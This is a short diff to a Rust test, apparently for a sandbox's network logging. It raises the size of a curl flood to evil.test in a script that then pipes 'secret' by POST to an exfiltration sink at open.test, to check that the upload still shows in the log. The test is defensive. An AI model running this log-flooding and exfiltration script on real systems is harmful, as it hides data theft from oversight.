@@ -39,7 +39,7 @@ async fn refusals_cannot_push_an_upload_out_of_the_log() {
     let script = "
 x=$(printf 'x%.0s' {1..3900})
 for c in 1 2 3 4; do
-  curl -s -o /dev/null \"http://evil.test/$c/[1-1400]/$x\" &
+  curl -s -o /dev/null \"http://evil.test/$c/[1-1600]/$x\" &
 done
 wait
 echo secret | curl -sS -T - -X POST https://open.test/sink/exfiltrated";
